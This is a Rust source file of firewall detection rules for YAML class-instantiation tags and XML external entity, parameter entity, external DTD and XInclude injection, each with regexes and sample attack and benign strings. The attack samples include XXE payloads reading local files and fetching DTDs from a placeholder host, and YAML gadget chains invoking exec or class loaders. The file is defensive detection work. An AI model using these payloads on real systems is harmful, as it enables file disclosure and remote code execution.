//! Markup by which a document makes its parser build objects or fetch others: tags of YAML that name a class or a function,
//! external entities of XML. Signatures, because nothing else looks like them; the parsers of declared XML bodies have
//! their own say.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Bucket, Rule, RuleMatcher, STRONG};

/// The rules; no detector reports them.
pub(crate) static BUCKET: Bucket = Bucket {
    rules: &[&[&YAML_OBJECT, &EXTERNAL_ENTITY, &PARAMETER_ENTITY, &EXTERNAL_SUBSET, &INCLUSION]],
    detectors: &[],
};

static YAML_OBJECT: Rule = Rule {
    id: "template-injection/yaml-class",
    leaf: Leaf::TemplateInjection,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"2002:python/(?:object|name|module)\b|!(?:ruby/(?:object|hash|struct|class|module|exception)|php/object)\b|!!(?:com|java|javax|org|ch|sun)\.[a-z0-9_.]{4,80}\s*[\[{]",
        literals: &[
            "2002:python/",
            "!ruby/",
            "!php/",
            "!!com.",
            "!!java.",
            "!!javax.",
            "!!org.",
            "!!ch.",
            "!!sun.",
        ],
    },
    summary: "A tag of YAML makes the parser build an object of any class or call a function.",
    attacks: &[
        "--- !ruby/object:Gem::Installer\ni: x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
        "!<tag:yaml.org,2002:python/object/new:exec>",
        "a: !php/object 'O:1'",
    ],
    benign: &[
        "Wow!! python is great",
        "!!binary R0lGODlh",
        "see ruby/object for more",
        "!!set {a, b}",
        "!!java. Really",
    ],
};

static EXTERNAL_ENTITY: Rule = Rule {
    id: "xml-parsing-entity-expansion/external-entity",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"<!entity\s+(?:%\s*)?[^\s%>]{1,128}\s+(?:system|public)\b",
        literals: &["<!entity"],
    },
    summary: "An XML entity is declared whose text lies elsewhere.",
    attacks: &[
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///a\">]><a>&x;</a>",
        "<!ENTITY % r SYSTEM 'http://203.0.113.7/a.dtd'> %r;",
        "<!entity\tx\tpublic \"a\" \"http://203.0.113.7/\">",
    ],
    benign: &[
        "<!DOCTYPE html>",
        "<!ENTITY copy \"(c)\">",
        "an entity of the system",
        "<!-- ENTITY x SYSTEM -->",
    ],
};

static PARAMETER_ENTITY: Rule = Rule {
    id: "xml-parsing-entity-expansion/parameter-entity",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"<!entity\s+(?:%|&#x?0*(?:37|25);)\s*[a-z0-9_.:-]",
        literals: &["<!entity"],
    },
    summary: "A parameter entity is declared, of which other declarations can be made.",
    attacks: &[
        "<!ENTITY % all \"<!ENTITY send 'x'>\">",
        "<!entity % a '%b;'>",
        "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.7/d\">%d;]>",
    ],
    benign: &["<!ENTITY copy \"100 %\">", "10 % entity", "<!DOCTYPE html>"],
};

static EXTERNAL_SUBSET: Rule = Rule {
    id: "xml-parsing-entity-expansion/external-subset",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: 3,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<!doctype\s+[^\s>\[]{1,128}\s+system\s*["']"#,
        literals: &["<!doctype"],
    },
    summary: "The document type of an XML text lies elsewhere.",
    attacks: &[
        "<!DOCTYPE x SYSTEM \"//x/x\"><x/>",
        "<!DOCTYPE data SYSTEM 'http://203.0.113.7/oob.dtd'>",
        "<!doctype a system\"http://203.0.113.7/\">",
    ],
    benign: &[
        "<!DOCTYPE html>",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "a doctype of the system",
    ],
};

static INCLUSION: Rule = Rule {
    id: "xml-parsing-entity-expansion/inclusion",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<(?:xi:)?include\s[^>]{0,200}\bhref\s*=\s*["']?(?:[a-z]+://|file:|/)"#,
        literals: &["include"],
    },
    summary: "An element of XInclude puts another document in its place.",
    attacks: &[
        "<xi:include parse=\"text\" href=\"file:///a\"/>",
        "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://203.0.113.7/\"/></x>",
        "<include href='/srv/a.xml' />",
    ],
    benign: &[
        "#include <stdio.h>",
        "<a href=\"https://example.org/include\">include</a>",
        "<include layout=\"@layout/a\" />",
    ],
};
